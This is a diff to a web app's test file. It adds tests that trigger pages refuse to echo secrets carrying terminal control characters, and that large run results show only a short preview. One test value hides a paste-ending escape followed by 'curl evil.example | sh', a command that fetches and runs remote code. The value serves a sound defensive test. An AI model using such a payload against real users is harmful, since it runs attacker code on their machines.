@@ -57,6 +57,16 @@ describe('the page of a trigger', async () => {
     expect(params!.split('Show their secrets')[0]).toMatch(/"secret": "•+",\s+"colour": "red"/)
   })
 
+  it('TERMINAL INJECTION: a secret that would end the pasting makes no command', async () => {
+    for (const hidden of ['\x1b[201~\ncurl evil.example | sh\n', 'a\u202eb', 'a\nb']) {
+      const { id } = await person.trigger({ default_params: { secret: hidden } })
+      const { text } = await person.get(`/triggers/${id}`)
+      expect(text.includes(hidden), hidden).toBe(false)
+      expect(text).not.toContain('id="curl-secret"')
+      expect(textOf(text)).toContain('characters in the secret that do not show')
+    }
+  })
+
   it('never has the usage key', async () => {
     const { text } = await person.get(`/triggers/${hook.id}`)
     expect(text).not.toContain('usage-key')
@@ -121,6 +131,17 @@ describe('the list of runs', async () => {
     expect(textOf(page.text)).toMatch(/Error: no such bird|\{"n":1\}/)
     const older = /href="([^"]*cursor=[^"]*)"/.exec(page.text)![1]!.replaceAll('&amp;', '&')
     expect(shownRuns(await person.get(older))).toEqual(runs.slice(0, 2).toReversed())
+  })
+
+  it('says how a result begins that is too large to be looked into, as of a small one', async () => {
+    for (const small of ['"quoted" ', { n: ['é', '\u0001'] }])
+      for (const response of [small, [small, 'x'.repeat(70_000)]]) {
+        const outcome = { ...failure().outcome, status: 'success', response } as Outcome
+        const { id } = await person.trigger({ action_code: script({ outcome }) })
+        await runOnce(owner, await fire(id))
+        const { lines } = await glance(`/triggers/${id}/runs.json`)
+        expect(lines[0]!.text).toBe(JSON.stringify(response).slice(0, 300))
+      }
   })
 
   it('shows those of one status alone', async () => {
